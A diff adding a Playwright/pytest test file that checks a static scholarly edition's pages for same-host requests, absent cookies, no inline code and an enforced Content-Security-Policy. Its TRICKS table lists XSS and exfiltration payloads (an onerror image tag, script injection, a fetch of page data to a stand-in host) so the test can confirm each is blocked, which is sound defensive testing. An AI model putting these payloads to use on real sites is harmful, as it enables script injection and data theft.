@@ -1,0 +1,152 @@
+"""What no reader has to take on trust: no other host, no cookie, nothing inline, and a policy that holds."""
+
+import functools
+import http.server
+import re
+import threading
+
+import pytest
+from lxml import html
+from playwright.sync_api import Error, expect
+
+from browser.conftest import Quiet
+
+REPORTS = """window.reports = [];
+    addEventListener("securitypolicyviolation", ({effectiveDirective, blockedURI}) => reports.push(`${effectiveDirective} ${blockedURI}`));"""
+FETCHED = {"stylesheet", "icon", "manifest", "preload", "modulepreload", "prefetch", "preconnect", "dns-prefetch"}
+KEPT = {"edition.theme", "edition.view", "edition.place", "edition.language", "edition.terms", "edition.search-key"}
+STORES = "async () => [Object.keys(localStorage), Object.keys(sessionStorage), (await indexedDB.databases()).length, document.cookie]"
+OTHER = "http://127.0.0.2:9"
+# What somebody else's text could try once it were in a page, and the directive that stops it.
+TRICKS = {
+    "markup from text": ("document.body.innerHTML = '<img src=x onerror=alert(1)>'", "require-trusted-types-for"),
+    "a script from text": ("document.head.append(Object.assign(document.createElement('script'), {text: 'alert(1)'}))", "require-trusted-types-for"),
+    "a worker from elsewhere": (f"new Worker('{OTHER}/worker.js')", "require-trusted-types-for"),
+    "a script in a handler": ("document.body.append(new DOMParser().parseFromString('<p onclick=alert(1)>', 'text/html').body)", "require-trusted-types-for"),
+    "a style attribute": ("document.body.setAttribute('style', 'display: none')", "style-src-attr"),
+    "a style element": ("document.head.append(Object.assign(document.createElement('style'), {textContent: 'p {color: red}'}))", "style-src-elem"),
+    "an image from elsewhere": (f"new Image().src = '{OTHER}/pixel.png'", "img-src"),
+    "data to elsewhere": (f"fetch('{OTHER}/?' + document.title).catch(() => {{}})", "connect-src"),
+    "a form to elsewhere": (f"document.body.appendChild(Object.assign(document.createElement('form'), {{action: '{OTHER}'}})).submit()", "form-action"),
+    "another base": (f"document.head.prepend(Object.assign(document.createElement('base'), {{href: '{OTHER}'}}))", "base-uri"),
+    "a frame": (f"document.body.append(Object.assign(document.createElement('iframe'), {{src: '{OTHER}'}}))", "frame-src"),
+}  # fmt: skip
+
+
+@pytest.fixture(scope="session")
+def plain_url(site):
+    """The address of the built site on a host that sets no headers."""
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Quiet, directory=site))
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield f"http://127.0.0.1:{server.server_port}"
+    server.shutdown()
+
+
+def addresses(site):
+    """The path of every page of the built site."""
+    return [f"/{path.relative_to(site).as_posix()}".replace("index.html", "") for path in sorted(site.rglob("*.html"))]
+
+
+def test_every_page_keeps_to_itself(new_context, base_url, site):
+    """On screen and on paper every page asks this host alone, breaks no rule of the policy, has nothing to say to the
+    console, loses no file and sets no cookie."""
+    context = new_context()
+    context.add_init_script(REPORTS)
+    page, trouble, where = context.new_page(), [], ""
+    note = lambda *words: trouble.append(" ".join(map(str, (where, *words))))  # noqa: E731
+    page.on("console", lambda message: note("console:", message.text))
+    page.on("pageerror", lambda error: note("error:", error))
+    page.on("request", lambda request: request.url.startswith(base_url) or note("other host:", request.url))
+    page.on("requestfailed", lambda request: note("failed:", request.url))
+    page.on("response", lambda response: response.status >= 400 and note(response.status, response.url))
+    for where in addresses(site):
+        page.goto(base_url + where, wait_until="load")
+        page.emulate_media(media="print")
+        reports, cookie = page.evaluate("document.body.offsetHeight && [reports, document.cookie]")
+        page.emulate_media(media="screen")
+        if reports or cookie:
+            note("policy:", reports, "cookie:", cookie)
+    assert len(addresses(site)) >= 63
+    assert trouble == [] and context.cookies() == []
+
+
+def test_nothing_inline_or_from_elsewhere(site):
+    """No page has a script, a style or a handler in its text (JSON-LD is data and does not run), nor asks for a file by a
+    whole address; its policy stands before anything that it is about."""
+    for path in site.rglob("*.html"):
+        page = html.parse(path).getroot()
+        for tag in page.iter(html.etree.Element):
+            inline = tag.tag == "script" and "src" not in tag.attrib and tag.get("type") != "application/ld+json"
+            named = [name for name in tag.attrib if name.startswith("on") or name == "style"]
+            assert not (inline or named or tag.tag == "style"), f"{path}: {html.tostring(tag)[:200]}"
+            address = (
+                tag.get("src")
+                or tag.get("data")
+                or (tag.get("href") if FETCHED & set(tag.get("rel", "").split()) else "")
+            )
+            assert not re.match("([a-z]+:)?//|javascript:|data:", address or ""), f"{path}: {address}"
+        assert [tag.values()[0] for tag in page.head[:2]] == ["utf-8", "Content-Security-Policy"]
+
+
+@pytest.mark.parametrize("host", ["strict", "plain"])
+@pytest.mark.parametrize("trick", TRICKS)
+def test_the_policy_holds(new_context, base_url, plain_url, host, trick):
+    """What a stranger's text could try is refused, by a host's headers and, where a host sets none, by the page itself."""
+    script, directive = TRICKS[trick]
+    context = new_context()
+    context.add_init_script(REPORTS)
+    page = context.new_page()
+    asked = []
+    page.on("request", lambda request: asked.append(request))
+    page.goto({"strict": base_url, "plain": plain_url}[host] + "/en/paper/2-2-japan/")
+    try:
+        page.evaluate(f"() => {{ {script} }}")
+    except Error:
+        pass  # trusted types throw
+    page.wait_for_function("reports.length")
+    assert page.evaluate("reports[0]").split()[0] == directive
+    assert {request.failure for request in asked if request.url.startswith(OTHER)} <= {"csp"}
+
+
+def test_a_visit_leaves_behind_what_the_page_about_says(page, base_url, context):
+    """A visit with all that the edition offers: search, concordance, views, switch, cards, citations, tables, theme. What
+    stays in the browser is six choices of the reader, by name; no cookie, no other store."""
+    context.add_init_script(REPORTS)
+    context.grant_permissions(["clipboard-read", "clipboard-write"], origin=base_url)
+    page.goto(base_url + "/en/paper/2-2-japan/")
+    page.get_by_role("button", name=re.compile("^Theme")).click()
+    page.get_by_label("Side by side").check()
+    page.get_by_role("button", name="Term cards").click()
+    page.get_by_role("button", name="Term cards").click()
+    page.locator("#p20 a.citation, #p20 a.term").first.hover()
+    expect(page.get_by_role("tooltip")).to_be_visible()
+    page.evaluate("scrollTo(0, 400)")
+    page.wait_for_function("localStorage.getItem('edition.place')")
+    page.get_by_role("button", name="Paragraph 20").click()
+    page.get_by_role("button", name="Copy link").click()
+    page.get_by_role("banner").get_by_role("link", name="中文").click()
+    page.wait_for_url(re.compile("^[^?]*(?<!/en)/paper/2-2-japan/"), wait_until="load")
+    page.keyboard.press("Control+k")
+    page.locator("#search [name=q]").fill("绿色气候基金")
+    expect(page.locator("#search-results a").first).to_be_visible()
+    page.locator("#search-results a").first.click()
+    page.goto(base_url + "/en/search/?q=Japan")
+    expect(page.locator("#concordance mark").first).to_be_visible()
+    page.goto(base_url + "/en/tables/terms/")
+    page.get_by_role("button", name="Times in Chinese").click()
+    page.get_by_label("Filter").fill("碳汇")
+    page.goto(base_url + "/en/")
+    page.get_by_role("button", name="Copy APA 7").first.click()
+    kept, session, databases, cookie = page.evaluate(STORES)
+    assert set(kept) <= KEPT and {"edition.theme", "edition.view", "edition.place", "edition.language"} <= set(kept)
+    assert (session, databases, cookie, context.cookies()) == ([], 0, "", [])
+    assert page.evaluate("reports") == []
+
+
+@pytest.mark.parametrize("path, open", [("/paper.json", True), ("/tables/terms.csv", True), ("/downloads/paper.zh.epub", True), ("/en/", False)])  # fmt: skip
+def test_other_sites_may_read_the_data(new_context, base_url, plain_url, path, open):
+    """A page of another site can fetch what is there to be taken away; pages it can link to, not take or frame."""
+    page = new_context(bypass_csp=True).new_page()
+    page.goto(plain_url + "/en/")
+    status = page.evaluate("url => fetch(url).then(({status}) => status, () => 0)", base_url + path)
+    assert status == (200 if open else 0)
